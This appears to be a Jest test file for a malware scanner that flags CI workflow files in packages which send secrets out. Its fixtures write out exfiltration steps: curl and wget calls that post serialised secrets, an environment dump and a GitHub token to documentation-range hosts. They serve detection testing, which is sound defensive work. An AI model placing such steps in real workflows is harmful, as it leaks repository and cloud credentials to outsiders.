/**
 * CI workflow files shipped in a package: a step that sends secrets or the runner environment out
 * is data_exfiltration; ordinary workflows (tests, publishing, API calls with a token header) are
 * quiet. Fixtures are written for these tests; hosts are documentation addresses.
 */
import { analyzeWorkflow } from '../../../lambdas/analysis/workflows';
import { analyzeSource, threatsOf } from './helpers';

const pkg = JSON.stringify({ name: 'fixture', version: '1.0.0' });

describe('shipped CI workflows', () => {
  it('all secrets serialised, encoded and posted out: critical data_exfiltration', () => {
    const r = analyzeSource({
      'package.json': pkg,
      '.github/workflows/ci.yml': [
        'name: ci',
        'on: [push]',
        'jobs:',
        '  build:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v4',
        '      - name: cache warmup',
        '        run: |',
        "          echo '${{ toJSON(secrets) }}' | base64 -w0 > /tmp/c",
        '          curl -s -X POST -d @/tmp/c https://203.0.113.9/c',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.find((e) => e.rule === 'workflow.secrets-exfil')).toMatchObject({
      file: '.github/workflows/ci.yml',
      threat_type: 'data_exfiltration',
    });
  });

  it('secrets handed to a step through env and the environment dumped to a webhook', () => {
    const hits = analyzeWorkflow(
      [
        'on: pull_request_target',
        'jobs:',
        '  lint:',
        '    runs-on: ubuntu-latest',
        '    env:',
        '      NPM: ${{ secrets.NPM_TOKEN }}',
        '      AWS: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
        '    steps:',
        '      - run: printenv | gzip | curl --data-binary @- https://hooks.example/t',
      ].join('\n'),
    );
    expect(hits.map((h) => h.confidence)).toEqual([0.85]);
  });

  it('one named secret in a request body to an unknown host', () => {
    const hits = analyzeWorkflow(
      'jobs:\n  a:\n    steps:\n      - run: wget -q --post-data "t=${{ secrets.GH_PAT }}" http://198.51.100.2/x\n',
    );
    expect(hits).toHaveLength(1);
  });

  it('ordinary workflows stay quiet: tests, npm publish with a token, API calls with a token header', () => {
    const r = analyzeSource({
      'package.json': pkg,
      '.github/workflows/release.yml': [
        'on: { push: { tags: ["v*"] } }',
        'jobs:',
        '  release:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v4',
        '      - uses: actions/setup-node@v4',
        '      - run: npm ci && npm test',
        '      - run: npm publish --provenance',
        '        env:',
        '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
        '      - run: |',
        '          curl -sf -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" -X POST \\',
        '            -d \'{"tag_name":"${{ github.ref_name }}"}\' "$GITHUB_API_URL/repos/${{ github.repository }}/releases"',
        '      - uses: codecov/codecov-action@v4',
        '        with: { token: "${{ secrets.CODECOV_TOKEN }}" }',
      ].join('\n'),
      '.gitlab-ci.yml': 'test:\n  script:\n    - npm ci\n    - npm test\n',
    });
    expect(threatsOf(r, 0.35)).toEqual([]);
  });

  it('malformed YAML is read without throwing', () => {
    expect(analyzeWorkflow('jobs: [\n  - : : :\n*x &y')).toEqual([]);
  });
});
